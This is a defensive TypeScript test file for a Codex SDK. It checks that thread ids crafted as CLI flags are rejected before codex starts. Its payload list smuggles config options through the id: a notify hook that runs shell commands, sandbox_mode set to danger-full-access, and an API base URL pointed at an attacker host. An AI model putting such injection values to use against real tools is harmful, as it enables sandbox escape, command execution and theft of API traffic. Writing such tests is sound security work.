import "../helpers/leaks.js";
import assert from "node:assert/strict";
import { existsSync, mkdtempSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, describe, test } from "node:test";
import { Codex, CodexConfigError, CodexThreadNotFoundError } from "../../src/index.js";
import { message } from "../../src/testing/index.js";
import { assertNoProcessesLeft } from "../helpers/leaks.js";
import { withModel, workspace } from "../helpers/scripted.js";

afterEach(() => assertNoProcessesLeft());

const TRANSPORTS = ["exec", "app-server"] as const;

describe("hostile thread ids against the real codex (no command runs, no request reaches the model)", () => {
  for (const transport of TRANSPORTS) {
    test(`${transport}: ids that codex would read as flags are refused before codex starts`, async () => {
      const dir = mkdtempSync(path.join(os.tmpdir(), "codex-sdk-pwn-"));
      const marker = path.join(dir, "PWNED");
      const payloads = [
        `-cnotify=["sh","-c","touch ${marker}"]`,
        `-c notify=["touch","${marker}"]`,
        '-csandbox_mode="danger-full-access"',
        '-copenai_base_url="http://attacker.invalid/v1"',
        "--last",
        `--config=notify=["touch","${marker}"]`,
      ];
      await withModel([message("never sent")], async (model) => {
        await using codex = new Codex(model.codexOptions({ transport, apiKey: "sk-test-hostile-ids-0123456789" }));
        for (const id of payloads) {
          await assert.rejects(async () => codex.resumeThread(id, { skipGitRepoCheck: true, sandboxMode: "read-only" }).run("hi"), CodexConfigError, id);
          await assert.rejects(async () => codex.forkThread(id, { skipGitRepoCheck: true }).run("hi"), CodexConfigError, id);
        }
        assert.equal(model.requests.length, 0, "no request reached the model");
      });
      assert.equal(existsSync(marker), false, "the payload's command never ran");
    });

    test(`${transport}: a thread id that does not exist fails with CodexThreadNotFoundError, and a hostile one that is not a flag runs nothing`, async () => {
      const dir = mkdtempSync(path.join(os.tmpdir(), "codex-sdk-pwn-"));
      const marker = path.join(dir, "PWNED");
      await withModel([message("a new thread answers")], async (model) => {
        await using codex = new Codex(model.codexOptions({ transport }));
        const missing = "019a0000-0000-7000-8000-000000000404";
        await assert.rejects(codex.resumeThread(missing, { skipGitRepoCheck: true }).run("hi"), (error: unknown) => error instanceof CodexThreadNotFoundError && error.threadId === missing);
        assert.equal(model.requests.length, 0);
        if (transport === "exec") {
          // After "--" it is a thread name for codex: one that names no thread starts a new one (documented).
          const thread = codex.resumeThread(`x -cnotify=["touch","${marker}"] --last`, { skipGitRepoCheck: true, workingDirectory: workspace() });
          const turn = await thread.run("hi");
          assert.equal(turn.finalResponse, "a new thread answers");
          assert.match(thread.id ?? "", /^[0-9a-f-]{36}$/);
        }
      });
      assert.equal(existsSync(marker), false);
    });
  }
});
